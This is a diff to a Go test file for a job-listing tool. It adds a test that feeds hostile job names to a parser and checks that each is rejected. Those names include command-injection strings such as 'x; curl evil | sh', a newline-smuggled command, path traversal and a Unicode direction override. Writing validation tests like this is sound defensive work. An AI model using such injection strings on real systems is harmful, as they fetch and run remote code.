@@ -1,9 +1,12 @@
 package main
 
 import (
+	"encoding/json"
 	"slices"
 	"strings"
 	"testing"
+
+	"keyway/internal/laptop"
 )
 
 func TestRunningWith(t *testing.T) {
@@ -13,14 +16,34 @@ func TestRunningWith(t *testing.T) {
 		{"name": "c", "state": "running", "command": ["python", "x", "y"]},
 		{"name": "d", "state": "running", "command": ["python", "x y"], "holder": 7}
 	]`
-	got, err := runningWith(strings.NewReader(list), []string{"python", "x y"})
-	if err != nil || !slices.Equal(got, []string{"a", "d"}) {
-		t.Errorf("%q, %v", got, err)
+	jobs, err := laptop.ReadJobs([]byte(list))
+	if err != nil {
+		t.Fatal(err)
 	}
-	for _, bad := range []string{"", "[", `{"name": 1}`, "[" + strings.Repeat(" ", maxJobList) + "]"} {
-		if got, err := runningWith(strings.NewReader(bad), nil); err == nil {
+	if got := runningWith(jobs, []string{"python", "x y"}); !slices.Equal(got, []string{"a", "d"}) {
+		t.Errorf("%q", got)
+	}
+	for _, bad := range []string{"", "[", `{"name": 1}`} {
+		if got, err := laptop.ReadJobs([]byte(bad)); err == nil {
 			t.Errorf("%.20q: %q", bad, got)
 		}
+	}
+}
+
+// Names of jobs become words of commands, and parts of questions.
+func TestNamesOfJobsAreNames(t *testing.T) {
+	for _, name := range []string{"", "x; curl evil | sh", "x\n  → curl evil", "-x", "../x", "x y", strings.Repeat("x", 100), "A", "\u202ex"} {
+		list, err := json.Marshal([]map[string]string{{"name": name, "state": "running"}, {"name": "a", "state": "running"}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		jobs, err := laptop.ReadJobs(list)
+		if err != nil || len(jobs) != 1 || jobs[0].Name != "a" {
+			t.Errorf("%q: %v, %v", name, jobs, err)
+		}
+	}
+	if got := nameJobs(strings.Split(strings.Repeat("a ", 99)+"a", " ")); got != "a, a, a, a, a, a, a, a and 92 more" {
+		t.Errorf("100 jobs: %q", got)
 	}
 }
 
